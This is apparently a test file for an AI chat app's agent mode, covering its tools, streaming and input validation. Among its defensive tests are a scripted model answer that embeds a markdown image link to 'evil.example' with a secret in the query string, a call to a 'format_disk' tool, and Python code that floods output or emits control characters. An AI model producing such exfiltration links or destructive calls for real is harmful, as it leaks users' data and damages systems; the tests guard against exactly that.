"""Agents: questions in mode `agent`, answered by steps of the queue with scripted models."""

import uuid

import pytest

from tests.fakes.agent_provider import ScriptedProvider, ToolCall, Written, follow, results
from tests.harness.agents import QUESTION, SEARCH, answer_of, ask, assert_nothing_is_open, tool_parts
from tests.harness.chat_app import ChatApp, event_types, running_chat_app, text_of
from tests.harness.databases import FreshDatabase


def test_agent_searches_and_answers_with_checked_citations(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = follow([SEARCH], "With pip [1], not by hand [7].")
    reader = ask(chat)
    assert chat.drain() == 1
    events = reader.all()
    assert event_types(events) == [
        "start",
        "data-model",
        "tool-input-available",
        "source-document",
        "tool-output-available",
        "text-start",
        "text-delta",
        "text-end",
        "finish",
        "[DONE]",
    ]
    assert text_of(events) == "With pip [1], not by hand."
    assert answer_of(chat)["metadata"]["state"] == "complete"
    [tool] = tool_parts(chat)
    assert (tool["toolName"], tool["state"]) == ("search_knowledge", "output-available")
    assert tool["input"] == SEARCH.arguments
    assert "[1] Install" in tool["output"]["text"]
    assert results(provider.requests[-1]) == [tool["output"]["text"]]
    assert_nothing_is_open(chat)


def test_text_and_thoughts_are_sent_while_the_model_writes(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = follow(Written("Pip, I think.", "With", " pip.", lambda: reader.until("text-delta")))
    reader = ask(chat)
    chat.drain()
    events = reader.all()
    assert event_types(events)[2:] == [
        "reasoning-start",
        "reasoning-delta",
        "reasoning-end",
        "text-start",
        "text-delta",
        "text-end",
        "finish",
        "[DONE]",
    ]
    assert [part["text"] for part in answer_of(chat)["parts"] if "text" in part] == ["Pip, I think.", "With pip."]


def test_tools_are_offered_in_a_stable_order(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = follow([SEARCH], "Done.")
    ask(chat)
    chat.drain()
    [first, second] = [[tool["function"]["name"] for tool in request["tools"]] for request in provider.requests]
    assert first == second == sorted(first)
    assert {"grep_documents", "list_documents", "read_document", "related", "run_python", "search_knowledge"} <= set(
        first
    )


def test_tools_read_documents(chat: ChatApp, provider: ScriptedProvider) -> None:
    found = chat.rows("select id from documents where key = 'guides/install.md'")[0][0]
    calls = [
        ToolCall("list_documents", {"path": "guides/**"}),
        ToolCall("grep_documents", {"text": "NEEDS python"}),
        ToolCall("read_document", {"document_id": str(found), "offset": 30, "limit": 8}),
        ToolCall("list_documents", {"filter": "path:nothing/**"}),
        ToolCall("grep_documents", {"text": "100%_"}),
    ]
    provider.script = follow(calls, "Done.")
    ask(chat)
    chat.drain()
    listed, matched, read, none, nowhere = results(provider.requests[-1])
    assert [line.split(" ", 1)[1] for line in listed.splitlines()] == [
        "t: guides/install.md (46 characters) Install",
        "t: guides/use.md (24 characters) Use",
    ]
    assert matched == f"{found} guides/install.md @30: It needs Python."
    assert read == "# Install\n\nIt needs\n\n(Read on at offset 38 of 46.)"
    assert none == "No document matches."
    assert nowhere == "No document contains this text."


def test_related_follows_links_in_both_directions(chat: ChatApp, provider: ScriptedProvider) -> None:
    keys = {str(key): id_ for id_, key in chat.rows("select id, key from documents")}
    install, use = keys["guides/install.md"], keys["guides/use.md"]
    link(chat, install, use)
    link(chat, install, use)  # twice in its text
    link(chat, use, install)
    link(chat, use, use)
    calls = [ToolCall("related", {"document_id": str(id_)}) for id_ in (install, chat.workspace_id)]
    provider.script = follow(calls, "Done.")
    ask(chat)
    chat.drain()
    found, missing = results(provider.requests[-1])
    assert found == f"links to {use} t: guides/use.md Use\nis linked from {use} t: guides/use.md Use"
    assert missing.startswith("Document not found")
    provider.script = follow(calls[:1], "Done.")
    ask(chat, message_id="m2", filter="path:**/install.md")
    chat.drain()
    assert results(provider.requests[-1])[-1] == "No document links to it, and it links to none."
    provider.script = follow(calls[:1], "Done.")
    ask(chat, message_id="m3", filter="path:**/use.md")
    chat.drain()
    assert results(provider.requests[-1])[-1].startswith("Document not found")


def link(chat: ChatApp, document: uuid.UUID, target: uuid.UUID) -> None:
    """Store a link from a document to another."""
    chat.rows(
        """insert into relations (workspace_id, document_id, kind, target, target_document_id, start_offset, end_offset)
        values (:w, :d, 'link', 'x', :t, 0, 1)""",
        w=chat.workspace_id,
        d=document,
        t=target,
    )


def test_filter_of_the_question_holds_for_all_tools(chat: ChatApp, provider: ScriptedProvider) -> None:
    other = chat.rows("select id from documents where key = 'guides/use.md'")[0][0]
    calls = [
        SEARCH,
        ToolCall("list_documents", {}),
        ToolCall("grep_documents", {"text": "north"}),
        ToolCall("read_document", {"document_id": str(other)}),
    ]
    provider.script = follow(calls, "Done.")
    ask(chat, filter="path:**/install.md")
    chat.drain()
    assert not [text for text in results(provider.requests[-1]) if "north" in text or "use.md" in text]
    [failed] = [part for part in tool_parts(chat) if part["state"] == "output-error"]
    assert failed["errorText"].startswith("Document not found")


def test_agent_runs_python(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = follow([ToolCall("run_python", {"code": "print(6 * 7)"})], "42")
    ask(chat)
    chat.drain()
    assert results(provider.requests[-1]) == ["The command succeeded.\n\n42\n"]


@pytest.mark.parametrize(
    ("call", "says"),
    [
        (ToolCall("format_disk", {}), "There is no tool 'format_disk'. There are: "),
        (ToolCall("search_knowledge", {}), "missing required field `query`"),
        (ToolCall("search_knowledge", {"query": 5}), "Expected `str`, got `int`"),
        (ToolCall("search_knowledge", {"query": "x", "workspace_id": "other"}), "unknown field `workspace_id`"),
        (ToolCall("search_knowledge", '{"query": "x'), "unknown field `no JSON object`"),
        (ToolCall("search_knowledge", {"query": "x\0y"}), "NUL character"),
        (ToolCall("search_knowledge", {"query": "x", "filter": "nonsense:"}), "nonsense"),
        (ToolCall("run_python", {"code": "x" * 200_001}), "more than the limit of 200,000"),
    ],
    ids=["unknown tool", "missing", "type", "extra", "cut JSON", "NUL", "filter", "long"],
)
def test_invalid_calls_are_errors_that_the_model_reads(
    chat: ChatApp, provider: ScriptedProvider, call: ToolCall, says: str
) -> None:
    provider.script = follow([call], "I can't.")
    reader = ask(chat)
    chat.drain()
    assert text_of(reader.all()) == "I can't."
    [tool] = tool_parts(chat)
    assert tool["state"] == "output-error"
    assert says in tool["errorText"]
    assert results(provider.requests[-1]) == [tool["errorText"]]


@pytest.mark.parametrize(
    ("code", "says"),
    [
        ("print('x' * 10_000_000)", "it wrote more than 256,000 bytes of output"),
        ("import sys; sys.stdout.buffer.write(bytes(range(256)) * 100)", "bytes that are no text"),
        ("print('a\\x1b[31mb\\x07\\u202ec')", "a[31mbc"),
        ("print('x' * 100_000)", "characters left out"),
        ("raise SystemExit(3)", "exit code 3"),
    ],
    ids=["endless", "binary", "control characters", "long", "failing"],
)
def test_hostile_output_is_bounded_and_told(chat: ChatApp, provider: ScriptedProvider, code: str, says: str) -> None:
    provider.script = follow([ToolCall("run_python", {"code": code})], "Done.")
    ask(chat)
    chat.drain()
    [text] = results(provider.requests[-1])
    assert says in text
    assert len(text) < 31_000
    assert "\x1b" not in text


def test_next_question_has_the_conversation(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = follow([SEARCH], "With pip [1].")
    ask(chat)
    chat.drain()
    provider.script = lambda _: "It needs Python."
    reader = ask(chat, "And what does it need?", message_id="m2")
    chat.drain()
    assert text_of(reader.all()) == "It needs Python."
    roles = [(message["role"], message["content"]) for message in provider.requests[-1]["messages"][1:]]
    assert roles == [("user", QUESTION), ("assistant", "With pip."), ("user", "And what does it need?")]


def test_ids_that_a_provider_repeats_are_replaced(chat: ChatApp, provider: ScriptedProvider) -> None:
    same = ToolCall("list_documents", {}, "call_0")
    provider.script = follow([same], [same], "Done.")
    ask(chat)
    chat.drain()
    assert len({part["toolCallId"] for part in tool_parts(chat)}) == 2
    assert len(results(provider.requests[-1])) == 2


def test_failing_model_ends_the_answer(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.status = 400
    reader = ask(chat)
    chat.drain()
    assert event_types(reader.all())[-2:] == ["error", "[DONE]"]
    assert answer_of(chat)["metadata"]["state"] == "failed"
    assert_nothing_is_open(chat)


def test_empty_turn_is_retried_by_the_queue(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = lambda _: "" if len(provider.turns) == 0 else "Done."
    reader = ask(chat)
    chat.drain()
    chat.rows("update steps set not_before = now() where state = 'ready'")
    chat.drain()
    assert text_of(reader.all()) == "Done."


def test_list_of_models_says_that_agents_can_run(chat: ChatApp) -> None:
    listed = chat.client.get("/api/models").get_json()
    assert (listed["agents"], listed["web"]) == (True, False)


def test_list_of_models_says_that_the_web_can_be_searched(database: FreshDatabase) -> None:
    with running_chat_app(database, brave_api_key="key") as app:
        listed = app.client.get("/api/models").get_json()
    assert (listed["agents"], listed["web"]) == (False, True)


def test_usage_is_recorded_for_each_turn(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = follow([SEARCH], "Done.")
    ask(chat)
    chat.drain()
    assert chat.rows("select input_tokens, output_tokens, calls from usage where kind = 'chat'") == [(2000, 200, 2)]


def test_agent_without_a_language_model_is_refused(database: FreshDatabase) -> None:
    with running_chat_app(database) as app:
        response = app.post("c1", QUESTION, mode="agent")
        assert response.status_code == 422
        assert response.get_json()["detail"] == "mode: Agents need a language model. Set CHAT_MODELS."
        assert app.client.get("/api/models").get_json()["agents"] is False


def test_agent_without_a_queue_is_refused(database: FreshDatabase, provider: ScriptedProvider) -> None:
    with running_chat_app(database, chat_model="openai:fake", openai_base_url=f"{provider.url}/v1") as app:
        response = app.post("c1", QUESTION, mode="agent")
        assert response.status_code == 422
        assert "Set CHAT_URL" in response.get_json()["detail"]
        assert app.client.get("/api/models").get_json()["agents"] is False


def test_agent_is_told_the_instructions_of_the_workspace(chat: ChatApp, provider: ScriptedProvider) -> None:
    chat.rows("update workspaces set chat_instructions = 'Answer as a pirate.' where id = :w", w=chat.workspace_id)
    ask(chat)
    chat.drain()
    system = provider.requests[-1]["messages"][0]
    assert system["role"] == "system"
    assert system["content"].endswith("Answer as a pirate.")


@pytest.mark.parametrize("mode", ["agent", "documents"])
def test_agents_answer_can_not_be_continued(chat: ChatApp, provider: ScriptedProvider, mode: str) -> None:
    ask(chat)
    chat.drain()
    chat.rows("update messages set state = 'cut' where role = 'assistant'")
    body = {"mode": mode, "continues": answer_of(chat)["id"]}
    response = chat.client.post("/api/chat", json={"id": "c1", "messages": [], **body})
    assert response.status_code == 422
    assert "can't be continued" in response.get_json()["detail"]


def test_links_to_addresses_that_the_agent_made_up_are_shown_as_code(chat: ChatApp, provider: ScriptedProvider) -> None:
    provider.script = follow([SEARCH], "See ![x](https://evil.example/?q=secret) and https://known.example/a [1].")
    reader = ask(chat, "What does https://known.example/a say?")
    chat.drain()
    text = text_of(reader.all())
    assert "](https://evil.example" not in text
    assert "https://known.example/a" in text
